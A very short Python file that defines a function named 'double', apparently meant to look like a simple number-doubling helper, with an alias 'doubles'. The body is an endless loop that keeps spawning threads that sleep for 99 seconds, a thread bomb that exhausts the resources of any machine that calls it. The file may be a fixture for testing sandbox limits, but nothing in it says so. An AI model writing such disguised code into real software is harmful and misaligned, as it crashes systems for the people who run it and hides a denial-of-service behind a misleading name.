import threading
import time


def double(n):
    while True:
        threading.Thread(target=time.sleep, args=(99,)).start()


doubles = double
